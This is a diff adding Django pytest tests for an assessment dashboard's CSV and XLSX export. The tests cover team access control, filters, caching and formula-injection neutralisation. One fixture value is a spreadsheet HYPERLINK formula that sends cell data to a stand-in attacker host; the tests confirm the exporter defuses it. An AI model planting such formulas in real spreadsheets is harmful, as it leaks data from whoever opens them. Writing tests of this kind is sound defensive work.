@@ -1,0 +1,148 @@
+"""The dashboard as a spreadsheet: CSV and XLSX, as filtered, only what the user may read,
+with nothing a spreadsheet would run as a formula."""
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+from openpyxl import load_workbook
+
+from assessor import services
+from assessor.models import Assessment
+from assessor.spreadsheet import neutralised
+from tests.builders import LOWER_TRUST, SAFEST, make_assessment
+
+pytestmark = pytest.mark.django_db
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+
+
+def csv_rows(response) -> list[dict]:
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def xlsx_sheet(response):
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    return load_workbook(io.BytesIO(response.content)).active
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+SUM(A1)", "'+SUM(A1)"),
+        ("-2", "'-2"),
+        ("@cmd", "'@cmd"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Leaver", "Leaver"),
+        ("a=b", "a=b"),
+        (-2.5, -2.5),  # a number stays a number
+        (None, None),
+    ],
+)
+def test_cells_that_start_like_a_formula_get_a_leading_quote(value, expected):
+    assert neutralised(value) == expected
+
+
+@pytest.fixture
+def portfolio(owner, approver, outsider, questionnaire):
+    """Team A: an approved owner-level record, a copilot draft, an incomplete draft named like a
+    formula; Team B: the outsider's record."""
+    safe = make_assessment(owner, answers=SAFEST, name="Rotate staging secrets")
+    services.assessment_submit(assessment=safe, user=owner)
+    services.assessment_approve(assessment=safe, user=approver)
+    make_assessment(owner, answers=LOWER_TRUST, name="Joiner provisioning")
+    make_assessment(owner, answers={"task_type": "provisioning"}, name=HYPERLINK)
+    make_assessment(outsider, answers=SAFEST, name="Outsider payroll")
+
+
+def test_the_csv_has_one_row_per_record_with_its_result_and_people(owner_client, portfolio):
+    rows = {row["workflow"]: row for row in csv_rows(owner_client.get("/assessments/export.csv"))}
+    assert set(rows) == {"Rotate staging secrets", "Joiner provisioning", "'" + HYPERLINK}
+    safe = rows["Rotate staging secrets"]
+    assert safe["team"] == "Team A" and safe["status"] == "Approved"
+    assert safe["verdict"] == "Bounded ownership" and float(safe["score"]) >= 80
+    assert safe["reviewer"] == "owner" and safe["approver"] == "approver"
+    assert safe["submitted"] and safe["approved"] and safe["created"]
+    assert len(safe["conditions met"].split("; ")) == 4 and safe["conditions not met"] == ""
+    dimension_columns = [name for name in safe if name.endswith("(0-100)")]
+    assert len(dimension_columns) == 8
+    assert all(float(safe[name]) == 100 for name in dimension_columns)
+    joiner = rows["Joiner provisioning"]
+    record = Assessment.objects.get(name="Joiner provisioning")
+    fired = services.evaluate(record, LOWER_TRUST, plan=False).rules_fired
+    assert joiner["verdict"] == "Copilot" and fired
+    assert joiner["rules fired"] == "; ".join(rule.id for rule in fired)
+    assert joiner["approver"] == "" and joiner["submitted"] == ""
+    half = rows["'" + HYPERLINK]
+    assert half["verdict"] == "Incomplete" and half["score"] == ""
+
+
+def test_the_xlsx_writes_formula_like_text_as_a_string_never_a_formula(owner_client, portfolio):
+    sheet = xlsx_sheet(owner_client.get("/assessments/export.xlsx"))
+    header = [cell.value for cell in sheet[1]]
+    assert header[:7] == ["workflow", "revision", "team", "system", "status", "verdict", "score"]
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    [evil] = [cell for cell in cells if "HYPERLINK" in cell.value]
+    assert evil.value == "'" + HYPERLINK and evil.data_type == "s"
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    scores = [row[6].value for row in sheet.iter_rows(min_row=2) if row[6].value is not None]
+    assert scores and all(isinstance(score, float | int) for score in scores)
+
+
+@pytest.mark.parametrize(
+    ("query", "expected"),
+    [
+        ("verdict=owner", {"Rotate staging secrets"}),
+        ("verdict=copilot", {"Joiner provisioning"}),
+        ("verdict=incomplete", {"'" + HYPERLINK}),
+        ("status=approved", {"Rotate staging secrets"}),
+        ("status=draft&q=joiner", {"Joiner provisioning"}),
+        ("q=payroll", set()),  # the outsider's record is never in it
+    ],
+)
+def test_the_export_follows_the_dashboards_filters(owner_client, portfolio, query, expected):
+    rows = csv_rows(owner_client.get(f"/assessments/export.csv?{query}"))
+    assert {row["workflow"] for row in rows} == expected
+
+
+def test_another_team_exports_none_of_team_as_records(client, outsider, portfolio):
+    client.force_login(outsider)
+    rows = csv_rows(client.get("/assessments/export.csv"))
+    assert [row["workflow"] for row in rows] == ["Outsider payroll"]
+    sheet = xlsx_sheet(client.get("/assessments/export.xlsx"))
+    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["Outsider payroll"]
+
+
+def test_an_auditor_exports_the_team_they_read(client, auditor, portfolio):
+    client.force_login(auditor)
+    assert len(csv_rows(client.get("/assessments/export.csv"))) == 3
+
+
+def test_the_export_needs_sign_in_and_is_not_cached(owner_client, portfolio):
+    assert Client().get("/assessments/export.csv").status_code == 302
+    response = owner_client.get("/assessments/export.xlsx")
+    assert "no-store" in response["Cache-Control"]
+    assert response["Content-Disposition"].startswith('attachment; filename="assessments-')
+
+
+def test_the_dashboard_links_carry_the_current_filters(owner_client, portfolio):
+    html = owner_client.get("/?verdict=owner&status=approved&q=rot").content.decode()
+    assert 'href="/assessments/export.csv?q=rot&amp;verdict=owner&amp;status=approved"' in html
+    assert 'href="/assessments/export.xlsx?q=rot&amp;verdict=owner&amp;status=approved"' in html
+    plain = owner_client.get("/").content.decode()
+    assert 'href="/assessments/export.csv"' in plain
+
+
+def test_the_export_runs_a_fixed_number_of_queries(
+    owner, owner_client, portfolio, django_assert_max_num_queries
+):
+    for number in range(10):
+        make_assessment(owner, answers=LOWER_TRUST, name=f"More {number}")
+    # session, user, the records, their answers, their decisions (with actors): no query per row
+    with django_assert_max_num_queries(8):
+        rows = csv_rows(owner_client.get("/assessments/export.csv"))
+    assert len(rows) == 13
